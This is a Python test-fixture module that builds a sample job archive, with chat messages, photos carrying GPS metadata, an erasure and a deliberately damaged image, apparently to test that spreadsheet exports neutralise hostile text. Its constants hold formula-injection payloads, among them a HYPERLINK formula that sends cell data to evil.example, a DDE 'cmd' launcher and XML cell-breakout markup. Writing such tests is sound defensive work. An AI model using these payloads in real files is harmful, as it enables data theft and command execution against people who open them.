"""One archive with one of everything a table must tell, and texts that spreadsheets would run."""

from __future__ import annotations

import io
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from archiver.cli import run
from archiver.localapi import LocalImage, Person, Served, hex_id
from tests.pipeline import (
    AMIRA,
    CRAIG,
    START,
    Clock,
    a_jpeg,
    a_workspace,
    add_job,
    folder_of,
    synced,
)

ATTACK = '=HYPERLINK("http://evil.example?x="&A1,"Open me")'
MARKUP = '<r><t>x</t></is></c><c r="A9"><f>1+1</f></c><c><is><t>y</t></r>'
"""What XlsxWriter would take for its own markup, and not escape."""
LONG = "word 🔧 " * 12_000
SECRET = "The alarm code of Rosewood is 4711"
FORMULAS = (
    ATTACK,
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "\u200b =1+1",
)
TEXTS = (
    *FORMULAS,
    "x;=1+1;y",
    'x;"=1+1";y',
    "Parts:\n- an olive\r\n- PTFE\rand\t=1+1",
    MARKUP,
    "_x0041_ and \x00 \x1b[31m \x7f \x85",
    "lone \ud83d surrogate, \ufffe and \uffff",
    "http://evil.example/click",
    "mailto:a@b.test",
    "007",
    "1e5",
    "2025-10-22",
    "TRUE",
    '{"a": "b"}',
    '"quoted", with, commas',
    LONG,
)
MALLORY = Person(hex_id("mallory"), "@Mallory")


@dataclass(frozen=True)
class Scene:
    """An archive and the ids of its jobs: `odd` has everything, `gone` vanished."""

    root: Path
    odd: str
    gone: str
    plain: str


def located() -> bytes:
    """A photo whose EXIF tells camera, time and a place in the south-west; to be turned."""
    exif = Image.Exif()
    exif[0x112], exif[0x10F], exif[0x110] = 6, "Ridgeway", "One"
    exif.get_ifd(0x8769)[0x9003] = "2025:10:24 11:16:05"
    exif.get_ifd(0x8825).update(
        {1: "S", 2: (33.0, 51.0, 30.0), 3: "W", 4: (0.0, 8.0, 30.804)},
    )
    body = io.BytesIO()
    Image.new("RGB", (64, 48), (9, 9, 9)).save(body, "JPEG", exif=exif)
    return body.getvalue()


def make(root: Path) -> Scene:
    """Nights, an erasure, an acceptance and damage that `verify` found."""
    workspace = a_workspace(jobs=0)
    clock = Clock()
    odd = add_job(workspace, ATTACK, photos=0, number=0)
    gone = add_job(workspace, "Will vanish", photos=1, number=1)
    plain = add_job(workspace, "Plain", photos=1, number=2)
    created = START - timedelta(days=30)

    def minute(number: float) -> Any:
        return created + timedelta(minutes=number)

    def photo(number: int, body: LocalImage | bytes) -> None:
        path = f"/images/{number}.jpeg"
        workspace.add_image(path, body)
        said = {"messageType": "image", "urlToImage": Served(f"{path}?X-Amz-Signature=s3cret")}
        said |= {"uploaderId": AMIRA.person_id, "uploaderName": AMIRA.name}
        said["timestampUploaded"] = minute(number).isoformat().replace("+00:00", "Z")
        workspace.add_message(odd.job_id, said, at=minute(number))

    photo(1, located())
    photo(2, a_jpeg(2))
    photo(3, LocalImage(status=404))
    photo(4, a_jpeg(1004))
    photo(5, a_jpeg(5))
    photo(6, a_jpeg(6))
    photo(7, a_jpeg(7))
    photo(8, a_jpeg(1004))
    workspace.add_chat(odd.job_id, SECRET, by=MALLORY, at=minute(9))
    workspace.add_chat(odd.job_id, "A first wording", by=CRAIG, at=minute(10))
    workspace.add_chat(odd.job_id, "Taken back later", by=CRAIG, at=minute(11))
    workspace.add_image("/files/a.gpx", b"<gpx/>")
    unknown = {"messageType": "track", "file": Served("/files/a.gpx"), "length": 1.50}
    workspace.add_message(odd.job_id, unknown, at=minute(12))
    undated = {"messageType": "chat", "textMessage": "When?", "timestampUploaded": "at noon"}
    workspace.add_message(odd.job_id, undated, at=minute(13))
    for number, text in enumerate(TEXTS, 14):
        workspace.add_chat(odd.job_id, text, by=MALLORY, at=minute(number))
    synced(root, workspace, clock=clock)

    clock.forward(days=1)
    places = {one.get("textMessage"): n for n, one in enumerate(odd.messages)}
    workspace.edit_message(odd.job_id, places["A first wording"], textMessage="=A second wording")
    workspace.remove_message(odd.job_id, places["Taken back later"])
    workspace.remove_message(odd.job_id, 6)  # the photo of minute 6
    workspace.images["/images/2.jpeg"] = LocalImage(a_jpeg(22))
    synced(root, workspace, clock=clock, recheck_images=True)

    clock.forward(days=1)
    workspace.remove_job(gone.job_id)
    synced(root, workspace, clock=clock)
    _decide(root, odd.job_id)
    return Scene(root, odd.job_id, gone.job_id, plain.job_id)


def _decide(root: Path, job_id: str) -> None:
    reason = ("--reason", "ticket 4711")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_STATE_HOME", str(root.parent / "state"))
        patch.setenv("XDG_CONFIG_HOME", str(root.parent / "config"))
        secret = ("--message", "10", "--photo", "7", *reason, "--yes")
        assert run(["erase", str(root), job_id, *secret, "-q"]) == 0
        accept = ("--photo", "3", "--reason", "The phone was lost", "--by", "Ed")
        assert run(["acknowledge", str(root), job_id, *accept, "-q"]) == 0
        (damaged,) = (folder_of(root, job_id) / "data/images").glob("0005-*")
        body = bytearray(damaged.read_bytes())
        damaged.chmod(0o644)
        damaged.write_bytes(bytes([*body[:-3], body[-3] ^ 1, *body[-2:]]))
        assert run(["verify", str(root), "-q"]) == 3
